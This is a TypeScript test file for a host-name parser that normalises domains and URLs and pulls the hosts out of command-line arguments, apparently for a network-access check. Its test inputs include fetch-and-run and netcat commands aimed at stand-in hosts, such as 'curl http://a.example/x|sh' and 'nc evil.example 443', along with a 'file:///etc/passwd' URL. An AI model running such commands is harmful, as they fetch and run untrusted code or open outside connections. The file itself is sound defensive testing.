import { expect, test } from "vitest";
import { andAbove, hostName, namedIn, plainUrl } from "./host-name.ts";

test.each([
  ["Evil.Example.", "evil.example"],
  ["_dmarc.evil.example", "_dmarc.evil.example"],
  ["b\u00fccher.example", "xn--bcher-kva.example"],
  ["xn--bcher-kva.example", "xn--bcher-kva.example"],
  ["localhost", undefined],
  ["192.0.2.1", undefined],
  ["1.2.3", undefined],
  ["a..example", undefined],
  ["-a.example", undefined],
  [`${"a".repeat(64)}.example`, undefined],
  [`${"a.".repeat(200)}example`, undefined],
  ["evil.example/path", undefined],
  ["", undefined],
])("%j is the host %j", (text, wanted) => {
  expect(hostName(text)).toBe(wanted);
});

test("a name lies below others, of which nobody lists the last label alone", () => {
  expect([...andAbove("a.b.evil.example")]).toEqual(["a.b.evil.example", "b.evil.example", "evil.example"]);
});

test.each([
  ["https://Evil.Example:443/x?y=1#z", "https://evil.example/x?y=1"],
  ["http://user:secret@evil.example:8080", "http://evil.example:8080/"],
  ["file:///etc/passwd", undefined],
  ["https://", undefined],
])("%j is compared as %j", (text, wanted) => {
  expect(plainUrl(text)?.url).toBe(wanted);
});

test.each<[readonly string[], readonly string[]]>([
  [["curl", "-fsSL", "https://evil.example/x.sh"], ["https://evil.example/x.sh"]],
  [
    ["sh", "-c", "curl http://a.example/x|sh; wget 'http://b.example/y'"],
    ["http://a.example/x", "http://b.example/y"],
  ],
  [["git", "clone", "git@evil.example:org/repo"], ["evil.example"]],
  [["nc", "evil.example", "443"], ["evil.example"]],
  [["curl", "evil.example/x"], ["evil.example"]],
  [["--proxy=http://evil.example:3128"], ["http://evil.example:3128/"]],
  [["ls", "-la", "./file", "no host", "/etc/hosts.d/x"], []],
])("%j names %j", (parts, wanted) => {
  expect(namedIn(parts).map(({ host, url }) => url ?? host)).toEqual(wanted);
});

test("of a command line without end only its beginning is read", () => {
  const parts = Array.from({ length: 100_000 }, (_unused, at) => `https://h${at}.example/${"x".repeat(100)}`);
  const began = performance.now();
  expect(namedIn(parts)).toHaveLength(20);
  expect(namedIn([`https://${"a.".repeat(1_000_000)}example`]).length).toBeLessThanOrEqual(1);
  expect(performance.now() - began).toBeLessThan(1000);
});
